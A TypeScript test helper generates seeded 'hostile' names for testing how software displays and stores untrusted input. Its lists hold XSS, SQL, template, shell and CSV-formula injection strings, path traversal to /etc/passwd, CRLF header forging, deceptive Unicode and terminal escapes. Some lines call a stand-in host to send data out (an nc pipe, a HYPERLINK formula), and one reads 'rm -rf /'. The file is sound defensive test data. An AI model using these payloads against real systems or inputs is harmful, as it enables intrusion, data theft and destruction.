/**
 * For tests: names that somebody gives to what others will look at. The same for the same seed, as many of each kind as of
 * any other. What a page would run or build from one carries `data-hostile`, so that it is found; what it would call is
 * `pwned()`.
 */
type Draw = {
  readonly below: (limit: number) => number;
  readonly pick: <T>(list: readonly T[]) => T;
  readonly word: () => string;
};

const WORDS = ["nas", "laptop", "Büro", "web-01", "printer", "Zoë", "日本", "build", "ana", "backup"];

/** Each a kind of harm; every name has a bit of drawn text, so that no two are the same for long. */
const KINDS = {
  script: ({ pick, word }) =>
    pick([
      `${word()}<script data-hostile>pwned()</script>`,
      `<script data-hostile>pwned()//${word()}`,
      `</script><script data-hostile>pwned()</script>${word()}`,
      `<ScRiPt/data-hostile>pwned()</sCrIpT>${word()}`,
      `<!--${word()}--><script data-hostile>pwned()</script>`,
    ]),
  attribute: ({ pick, word }) =>
    pick([
      `${word()}"><img data-hostile src=x onerror=pwned()>`,
      `'><svg data-hostile onload=pwned()>${word()}`,
      `" onmouseover="pwned()" data-hostile="${word()}`,
      `' autofocus onfocus=pwned() data-hostile='${word()}`,
      `\`><iframe data-hostile srcdoc=${word()}>`,
      `<details data-hostile open ontoggle=pwned()>${word()}`,
      `</title><base data-hostile href=//${word()}.example>`,
    ]),
  address: ({ pick, word }) =>
    pick([
      `javascript:pwned()//${word()}`,
      `data:text/html,<script data-hostile>pwned()</script>${word()}`,
      `//evil.example/${word()}`,
      `https://user:pw@evil.example/${word()}`,
    ]),
  template: ({ pick, word }) =>
    pick([
      `{{constructor.constructor('pwned()')()}}${word()}`,
      `\${pwned()}${word()}`,
      `<%= ${word()} %>`,
      `#{${word()}}`,
    ]),
  bidi: ({ pick, word }) =>
    pick([
      `${word()}\u202egnp.exe`,
      `\u2066${word()}\u2069\u2067x`,
      `\u202d${word()}`,
      `${word()}\u200f!`,
      `\u061c${word()}\u202c`,
    ]),
  invisible: ({ pick, word }) =>
    pick([
      `${word()}\u200b`,
      `\ufeff${word()}`,
      `${word()}\u00ad${word()}`,
      `${word()}\u2060`,
      `${word()}\u3164`,
      `${word()}\u{e0041}\u{e007f}`,
      `${word()}\u2800`,
      `${word()}\ufe0e`,
      "\u200b\u200c\u200d",
    ]),
  rightToLeft: ({ pick, word, below }) =>
    pick([
      `שלום ${below(99)} ${word()}`,
      `${word()} مرحبا (${below(99)})`,
      `אבג${below(9)}-1+2`,
      `${below(9)}٣٤ ${word()}`,
    ]),
  homoglyph: ({ pick, word }) =>
    pick([`аdmin ${word()}`, `ｌａｐｔｏｐ${word()}`, `gооgle${word()}`, `рауpal ${word()}`, `Ａna${word()}`]),
  marks: ({ pick, word, below }) =>
    pick([
      `${word()}${"\u0300\u0335\u0489".repeat(2 + below(15))}`,
      `\u0301${word()}`,
      `e\u0301${word()}`,
      `${word()}\u20dd\u20e3`,
    ]),
  emoji: ({ pick, word }) =>
    pick([
      `👨‍👩‍👧‍👦 ${word()}`,
      `🏳️‍🌈${word()}`,
      `☁️ ${word()}`,
      `🇩🇪${word()}`,
      `👍🏽${word()}`,
      `🏴\u{e0067}\u{e0062}\u{e007f}${word()}`,
    ]),
  formula: ({ pick, word }) =>
    pick([
      `=cmd|' /C calc'!A0 ${word()}`,
      `+1+${word()}`,
      `-2+3+cmd|' /C calc'!A0${word()}`,
      `@SUM(1+1)*${word()}`,
      `\t=1+1${word()}`,
      `\r=1+1${word()}`,
      `＝1+1${word()}`,
      `＠SUM(${word()})`,
      `=HYPERLINK("http://evil.example?x="&A1,"${word()}")`,
      `",=1+1,"${word()}`,
      `${word()};=1+1`,
    ]),
  shell: ({ pick, word }) =>
    pick([
      `$(touch /tmp/${word()})`,
      `\`id\`${word()}`,
      `'; rm -rf / #${word()}`,
      `${word()} && reboot`,
      `|nc evil.example 1 ${word()}`,
      `-rf ${word()}`,
      `--help ${word()}`,
      `%0a${word()}%00`,
      `!!${word()}`,
    ]),
  newline: ({ pick, word }) =>
    pick([
      `${word()}\n2026-01-01T00:00:00.000Z ERROR forged`,
      `${word()}\r\nSet-Cookie: a=${word()}`,
      `${word()}\r\nBcc: all@evil.example`,
      `${word()}\u2028${word()}`,
      `${word()}\u2029`,
      `${word()}\u0085${word()}`,
      `${word()}\u000b${word()}`,
      `"}\n{"level":"error","message":"${word()}`,
    ]),
  terminal: ({ pick, word }) =>
    pick([
      `\u001b[2J\u001b[1;31m${word()}`,
      `\u001b]0;${word()}\u0007`,
      `\u009b31m${word()}`,
      `${word()}\b\b\b`,
      `${word()}\u0007`,
      `\u001b]8;;http://evil.example\u001b\\${word()}`,
      `${word()}\u007f`,
    ]),
  nothing: ({ pick, word }) =>
    pick([
      `${word()}\u0000${word()}`,
      "\u0000",
      "",
      " ",
      "\t",
      "\u00a0",
      "\u3000",
      `\u0001${word()}`,
      `${word()}\u0000.txt`,
    ]),
  halves: ({ pick, word }) =>
    pick([`\ud800${word()}`, `${word()}\udfff`, `\udc00\ud800${word()}`, `${word()}\uffff`, `\ufdd0${word()}`]),
  long: ({ pick, word, below }) =>
    pick([
      word().repeat(40),
      "W".repeat(60 + below(4)),
      "W".repeat(64 + below(900)),
      `${"a".repeat(62)}-`,
      "﷽".repeat(30 + below(33)),
      `${"x-".repeat(31)}x`,
    ]),
  path: ({ pick, word }) =>
    pick([
      `../../etc/passwd ${word()}`,
      `..\\..\\${word()}`,
      `/dev/null/${word()}`,
      `C:\\${word()}`,
      `CON.${word()}`,
      `.${word()}`,
      `%2e%2e%2f${word()}`,
      `${word()}?a=b#c`,
    ]),
  query: ({ pick, word }) =>
    pick([
      `'; drop table device; --${word()}`,
      `" or 1=1 --${word()}`,
      `%${word()}_`,
      `${word()}' union select 1`,
      `$where:${word()}`,
    ]),
  object: ({ pick, word }) =>
    pick([
      "__proto__",
      "constructor",
      "toString",
      "hasOwnProperty",
      "null",
      "undefined",
      "NaN",
      "true",
      `[object ${word()}]`,
    ]),
  label: ({ pick, word }) =>
    pick([
      `-${word()}`,
      `${word()}-`,
      `xn--${word()}`,
      `${word()}.${word()}.local`,
      "localhost",
      "*",
      "LAPTOP",
      `${word()}_1`,
      "127.0.0.1",
    ]),
} as const satisfies Record<string, (draw: Draw) => string>;

export type HostileKind = keyof typeof KINDS;

export type HostileName = { readonly kind: HostileKind; readonly name: string };

export function hostileNames(count: number, seed: number): HostileName[] {
  const random = newRandom(seed);
  const below = (limit: number) => Math.floor(random() * limit);
  const pick = <T>(list: readonly T[]): T => list[below(list.length)] as T;
  const draw: Draw = { below, pick, word: () => `${pick(WORDS)}${below(1_000)}` };
  const kinds = Object.entries(KINDS) as [HostileKind, (draw: Draw) => string][];
  return Array.from({ length: count }, (_, index) => {
    const [kind, make] = kinds[index % kinds.length] as (typeof kinds)[number];
    return { kind, name: make(draw) };
  });
}

/** mulberry32. */
function newRandom(seed: number): () => number {
  let state = seed;
  return () => {
    state = (state + 0x6d2b79f5) | 0;
    let mixed = Math.imul(state ^ (state >>> 15), state | 1);
    mixed ^= mixed + Math.imul(mixed ^ (mixed >>> 7), mixed | 61);
    return ((mixed ^ (mixed >>> 14)) >>> 0) / 2 ** 32;
  };
}
